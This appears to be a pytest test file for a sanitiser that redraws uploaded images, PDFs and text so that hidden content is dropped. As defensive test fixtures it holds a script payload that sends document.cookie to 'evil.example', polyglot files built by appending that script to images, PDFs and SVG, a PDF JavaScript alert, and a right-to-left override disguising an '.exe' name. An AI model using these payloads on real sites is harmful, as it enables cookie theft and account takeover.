"""What is shown is drawn anew: nothing that was hidden in a file comes along, and no file takes the site down."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from safeconduct.core.documents.api import CannotBeKept, draw
from safeconduct.core.documents.limits import Limits
from tests.core.documents.papers import SECRET, flood, pdf, photograph, picture, png_with_words

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def shown(content, **values):
    return draw(content, **values).pages


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP", "TIFF", "HEIF"])
def test_a_picture_becomes_dots_and_nothing_else(kind):
    made = photograph(kind) if kind in ("JPEG", "WEBP") else png_with_words() if kind == "PNG" else picture(kind)
    (page,) = shown(made)
    drawn = Image.open(io.BytesIO(page.content))
    assert (
        drawn.format == "JPEG" and not drawn.getexif() and set(drawn.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    )
    assert SECRET.encode() not in page.content
    assert drawn.size == (page.width, page.height) == ((40, 60) if kind in ("JPEG", "WEBP") else (60, 40)), "it stands upright"


def test_neither_author_nor_script_of_a_pdf_comes_along():
    drawn = draw(pdf(2, author=SECRET, script="app.alert(1)"))
    assert drawn.kind == "pdf" and len(drawn.pages) == 2
    assert all(page.content.startswith(b"\xff\xd8") and SECRET.encode() not in page.content for page in drawn.pages)


@pytest.mark.parametrize("made", [
    picture() + SCRIPT, picture() + b"PK\x03\x04 a zip", b"%PDF-1.4 " + SCRIPT, picture("PNG") + pdf(), pdf() + SCRIPT,
    SCRIPT + picture(), b"GIF89a/*" + SCRIPT, b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT,
], ids=range(8))  # fmt: skip
def test_of_a_file_that_is_two_things_at_most_the_dots_are_shown(made):
    try:
        drawn = draw(made)
    except CannotBeKept as fault:
        assert fault.code in ("documents.damaged", "documents.unknown_kind") and fault.mend
        return
    assert drawn.kind == "text" or all(page.content.startswith(b"\xff\xd8") and SCRIPT not in page.content for page in drawn.pages)


@pytest.mark.parametrize(("made", "code"), [
    (b"", "documents.empty"), (bytes(500), "documents.empty"), (flood(), "documents.too_many_pixels"),
    (flood(30_000, 30_000), "documents.too_many_pixels"), (pdf(61), "documents.too_many_pages"),
    (pdf(password=True), "documents.has_a_password"), (picture()[:200], "documents.damaged"),
    (b"%PDF-1.7 nothing", "documents.damaged"),
    (b"MZ\x90\x00\x03" + bytes(range(256)), "documents.unknown_kind"), 
    (b"PK\x03\x04" + bytes(range(256)), "documents.unknown_kind"),
    (b"GIF89a" + bytes(20), "documents.unknown_kind"), (("name " * 120_000).encode(), "documents.too_long"),
    (b"x" * 25_000_001, "documents.too_large"),
])  # fmt: skip
def test_what_cannot_be_kept_is_refused_with_its_mend(made, code):
    with pytest.raises(CannotBeKept) as refused:
        draw(made)
    assert refused.value.code == code and refused.value.says and refused.value.mend
    assert str(refused.value) == code, "a fault never quotes the file"


def test_a_file_that_needs_too_much_is_stopped():
    with pytest.raises(CannotBeKept) as refused:
        draw(picture(size=(4000, 4000)), limits=Limits(memory_bytes=120_000_000))
    assert refused.value.code == "documents.too_much"
    with pytest.raises(CannotBeKept):
        draw(pdf(30), limits=Limits(seconds=0.01))


def test_a_text_is_characters_that_turn_nothing():
    (page,) = shown("مینا کریمی\r\nEvidence \u202egnp.exe\u2066\nمی‌رود".encode())
    assert page.content.decode() == "مینا کریمی\nEvidence gnp.exe\nمی‌رود" and page.width == 0
    (utf16,) = shown("پدر".encode("utf-16"))
    assert utf16.content.decode() == "پدر"


def test_what_lets_through_stands_on_white():
    out = io.BytesIO()
    Image.new("RGBA", (10, 10), (0, 0, 0, 0)).save(out, "PNG")
    (page,) = shown(out.getvalue())
    assert Image.open(io.BytesIO(page.content)).getpixel((5, 5)) == (255, 255, 255)


def test_a_page_is_no_larger_than_a_paper_needs():
    (page,) = shown(picture(size=(5000, 2500)))
    assert (page.width, page.height) == (2400, 1200)
